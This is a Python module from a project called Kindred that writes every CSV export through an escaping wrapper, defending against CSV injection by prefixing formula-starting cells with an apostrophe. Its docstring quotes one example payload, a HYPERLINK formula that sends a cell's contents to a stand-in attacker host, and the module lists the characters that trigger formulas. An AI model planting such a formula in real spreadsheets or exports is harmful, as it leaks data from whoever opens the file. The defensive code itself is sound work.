"""The one way Kindred writes CSV files: every export goes through `csv_writer`.

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@` (and in some programs `|`, `%`,
a tab or a carriage return) as a formula, so a person's name such as
`=HYPERLINK("http://evil.example/?x="&A1,"Click")` or an imported school name would become a
live formula in whoever opens the export ("CSV injection", OWASP). `csv_writer` prefixes such
cells with an apostrophe, which spreadsheets show as text. Numbers, and text that is just a
number ("-0.25"), are written as they are.

The escaping is defusedcsv's (a maintained drop-in for the standard `csv` module); the two
leading characters it leaves alone, tab and carriage return, are escaped here as well.
"""

import csv
from collections.abc import Iterable
from typing import Any

from defusedcsv import csv as defused

_ALSO_ESCAPED = ("\t", "\r")
# The first characters that make a cell a formula (defusedcsv's list and ours): a reader of a file
# Kindred wrote drops the apostrophe in front of them (frameworks/loading.py).
FORMULA_STARTS = frozenset("=+-@|%\t\r")
#: Cells written as they are: no spreadsheet runs a number, a boolean or an empty cell.
_PLAIN = frozenset({int, float, bool, type(None)})


def spreadsheet_safe(value: Any) -> Any:
    """`value` as a CSV cell that no spreadsheet will run as a formula."""
    if type(value) is str:  # the common cells first: an export writes millions of them
        if not value or value[0] not in FORMULA_STARTS:
            return value
        if value.startswith(_ALSO_ESCAPED):
            return "'" + value
    elif type(value) in _PLAIN:
        return value
    return defused._escape(value)


class _SafeWriter:
    """The standard library's writer, each cell through `spreadsheet_safe` once (defusedcsv's own
    writer would escape each cell a second time, which changes nothing and doubled an export's time)."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(
            [cell if type(cell) in _PLAIN else spreadsheet_safe(cell) for cell in row]
        )

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **fmtparams) -> _SafeWriter:
    """A `csv.writer` on `stream` (a file, an HttpResponse, or `Echo()` for streaming) whose cells are safe."""
    return _SafeWriter(csv.writer(stream, **fmtparams))


class Echo:
    """A pseudo-file whose `write` returns the line, for StreamingHttpResponse: `csv_writer(Echo())`."""

    def write(self, value: str) -> str:
        return value
